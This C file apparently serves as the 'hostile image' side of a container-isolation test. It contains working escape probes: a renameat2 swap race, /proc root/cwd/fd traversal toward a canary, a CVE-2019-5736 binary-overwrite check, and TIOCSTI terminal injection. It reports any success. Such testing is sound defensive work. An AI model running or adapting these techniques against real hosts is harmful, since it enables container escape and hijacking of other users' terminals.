/* attack.c: what a hostile image does, one attack per word. Says on stdout what succeeded; silence is what we want.
 *
 *     exchange A B      swap two names for ever (renameat2), so that whoever looks twice sees two things
 *     watch CANARY      for ever: reach out through every process that appears: its root, directory, descriptors, executable
 *     session           print the number of the session keyring
 *     push              push a character into the input queue of every terminal that is open
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <unistd.h>

static void exchange(const char *one, const char *other)
{
	for (;;)
		renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

static void reach(const char *format, const char *process, const char *place, const char *canary)
{
	char path[4096];
	int descriptor;

	snprintf(path, sizeof path, format, process, place, canary);
	descriptor = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
	if (descriptor < 0)
		return;
	printf("reached %s\n", path);
	close(descriptor);
}

/* CVE-2019-5736: who holds the program of a process that isn't of the image can overwrite it once that process has ended,
 * unless he holds it through a mount that is read-only. Until the end the answer is ETXTBSY either way: ask the mount. */
static void overwrite(const char *process)
{
	char path[320], target[256] = "";
	struct statvfs mount;
	int descriptor;

	snprintf(path, sizeof path, "/proc/%s/exe", process);
	descriptor = open(path, O_RDONLY);
	if (descriptor < 0)
		return;
	if (readlink(path, target, sizeof target - 1) > 0 && strncmp(target, "/bin/", 5) != 0 &&
	    fstatvfs(descriptor, &mount) == 0 && !(mount.f_flag & ST_RDONLY))
		printf("can overwrite %s\n", target);
	close(descriptor);
}

static void examine(const char *process, const char *canary)
{
	char path[320];
	DIR *directory;
	struct dirent *entry;

	reach("/proc/%s/root%s%s", process, "", canary);
	reach("/proc/%s/cwd%s/../../../../../../../..%s", process, "", canary);
	overwrite(process);
	snprintf(path, sizeof path, "/proc/%s/fd", process);
	directory = opendir(path);
	while (directory && (entry = readdir(directory)))
		if (entry->d_name[0] != '.')
			reach("/proc/%s/fd/%s/../../../../../../../..%s", process, entry->d_name, canary);
	if (directory)
		closedir(directory);
}

static void watch(const char *canary)
{
	char self[16];

	snprintf(self, sizeof self, "%d", getpid());
	puts("watching");
	fflush(stdout);
	for (;;) {
		DIR *directory = opendir("/proc");
		struct dirent *entry;

		while (directory && (entry = readdir(directory)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && strcmp(entry->d_name, self) != 0)
				examine(entry->d_name, canary);
		if (directory)
			closedir(directory);
		fflush(stdout);
	}
}

static void push(void)
{
	for (int descriptor = 0; descriptor < 64; descriptor++)
		if (ioctl(descriptor, TIOCSTI, "x") == 0)
			printf("pushed into %d\n", descriptor);
}

static void session(void)
{
	printf("%ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
}

int main(int count, char **words)
{
	if (count == 4 && !strcmp(words[1], "exchange"))
		exchange(words[2], words[3]);
	else if (count == 3 && !strcmp(words[1], "watch"))
		watch(words[2]);
	else if (count == 2 && !strcmp(words[1], "push"))
		push();
	else if (count == 2 && !strcmp(words[1], "session"))
		session();
	else
		return 2;
	return 0;
}
